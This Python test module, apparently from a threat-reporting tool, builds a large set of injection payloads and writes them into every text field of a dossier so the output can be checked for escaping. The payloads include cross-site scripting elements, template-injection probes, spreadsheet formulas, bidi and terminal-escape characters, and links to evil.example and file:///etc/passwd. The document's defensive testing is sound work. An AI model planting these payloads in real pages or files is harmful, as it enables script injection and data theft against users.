"""Strings that an attacker would put into evidence, and a dossier that holds them in every field.

Provenance: written for these tests from the HTML, CSS, URL and Unicode specifications; the classes
are those of the OWASP cheat sheets on cross-site scripting and CSV injection.
"""

from __future__ import annotations

import re
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from itertools import product
from typing import TYPE_CHECKING, Any, TypeVar

from stopa.model.dossier import Dossier, Withheld
from stopa.model.evidence import Tlp
from stopa.model.rule import Finding
from stopa.model.statement import Incident, Loaded, OutletLabel, Reading

if TYPE_CHECKING:
    from _typeshed import DataclassInstance

Record = TypeVar("Record", bound="DataclassInstance")

CODE = "window.__pwned=1"
ELEMENTS = (
    f"<script>{CODE}</script>",
    f"<img src=x onerror={CODE}>",
    f"<svg onload={CODE}>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{CODE}</script>'>",
    f"<details open ontoggle={CODE}>",
    f"<input autofocus onfocus={CODE}>",
    f"<video><source onerror={CODE}></video>",
    f"<math><mtext><script>{CODE}</script>",
    f"<a href=javascript:{CODE} id=pwned-link>x</a>",
    "<marquee onstart=window.__pwned=1>",
    f"<object data=javascript:{CODE}>",
    f"<embed src=javascript:{CODE}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button autofocus>",
    "<style>body{display:none}</style>",
    "<template shadowrootmode=open><script>window.__pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
)
# What ends the context that a careless page would have put the text into.
BREAKOUTS = (
    "", '"', "'", '">', "'>", "</script>", "</style>", "</title>", "</textarea>", "-->", "]]>",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{% import os %}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config}}",
    "{{''.__class__}}", "__proto__", "constructor", "toString", "hasOwnProperty",
    "</script><!--<script>",
    "\\u003cscript\\u003e", "&lt;script&gt;", "&#x3C;script&#x3E;", "%3Cscript%3E",
)  # fmt: skip
FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("//evil.example")', "|calc")
UNICODE = (
    "\u202etxt.exe", "\u2066\u2067\u2068\u2069", "\u200b\u200d\ufeff", "\u2028\u2029",
    "\x00\x01\x1b[2J", "\x1b]8;;//evil.example\x07", "\x7f\x85\x9b", "\U000e0041\U000e0042",
    "\u061c\u200e\u200f",
    "\u3164\u115f\uffa0", "Z" + "\u0335\u0489" * 40, "שלום עולם", "مرحبا", "\ufff9\ufffb", "\u00ad",
)  # fmt: skip
LINKS = (
    f"javascript:{CODE}", f"data:text/html,<script>{CODE}</script>", "//evil.example/x",
    "https://evil.example/beacon.gif", "\\\\evil.example\\share", "file:///etc/passwd",
)  # fmt: skip
PAYLOADS = (
    *(f"{out}{element}" for out, element in product(BREAKOUTS, ELEMENTS)),
    *TEMPLATES, *FORMULAS, *UNICODE, *LINKS,
)  # fmt: skip
ROOM = 1_700  # characters put into one string: the page shows 2,000 of any


def _portions() -> list[list[str]]:
    portions: list[list[str]] = [[]]
    for payload in PAYLOADS:
        if sum(map(len, portions[-1])) + len(portions[-1]) + len(payload) > ROOM:
            portions.append([])
        portions[-1].append(payload)
    return portions


PORTIONS = _portions()

# What no attacker writes: hashes and ids that stopa computed, its own dates, the schema's name.
COMPUTED = re.compile(r"[0-9a-f]{64}|[A-Z]-[0-9a-f]{12}")
OWN = {"edtf", "day", "schema"}


def hostile(dossier: Dossier, portion: int) -> Dossier:
    """Return the dossier with one portion of the payloads put into every text of every record."""
    return spoilt(filled(dossier), " ".join(PORTIONS[portion]))


def filled(dossier: Dossier) -> Dossier:
    """Return the dossier with the kinds of record and the texts that it does not happen to have."""
    papers = tuple(reading.document for reading in dossier.readings)
    actors = [
        replace(one, software=("S0002",), references=("a report",), notes=("so one source says",))
        for one in dossier.actors
    ]
    observed = [replace(one, entities=("host ws-1",)) for one in dossier.observations]
    coverage = [replace(row, times=(("stated in the log", 3),)) for row in dossier.coverage]
    return replace(
        dossier,
        actors=tuple(actors),
        observations=tuple(observed),
        coverage=tuple(coverage),
        findings=tuple(_in_a_part(finding) for finding in dossier.findings),
        readings=tuple(_with_outlet(reading) for reading in dossier.readings),
        comparison=replace(
            dossier.comparison,
            incidents=(Incident("N-1", "the intrusion at the ministry", papers, ("one victim",)),),
        ),
        withheld=(
            Withheld("statement", Tlp.RED, "00" * 32),
            Withheld("finding", Tlp.RED, "not hex"),
        ),
    )


def _in_a_part(finding: Finding) -> Finding:
    return replace(finding, where=replace(finding.where, part="attachment 2"))


def _with_outlet(reading: Reading) -> Reading:
    said = OutletLabel("Karst Daily", "outlet", "XKF", "state-owned", "Council", "an act", "2024")
    head = replace(reading.masthead, date_without_year="28 May")
    return replace(reading, masthead=head, labels=(said,), loaded=(Loaded("regime", 2, 1),))


def spoilt(record: Record, put: str) -> Record:
    """Return the record with words put behind every text in it and in the records it holds."""
    held = {field.name: getattr(record, field.name) for field in fields(record)}
    return replace(record, **{name: _spoilt(value, name, put) for name, value in held.items()})


def _spoilt(value: Any, name: str, put: str) -> Any:
    match value:
        case Enum():
            return value
        case tuple():
            return tuple(_spoilt(item, name, put) for item in value)
        case str() if name not in OWN and not COMPUTED.fullmatch(value):
            return f"{value} {put}"
        case _ if is_dataclass(value) and not isinstance(value, type):
            return spoilt(value, put)
        case _:
            return value
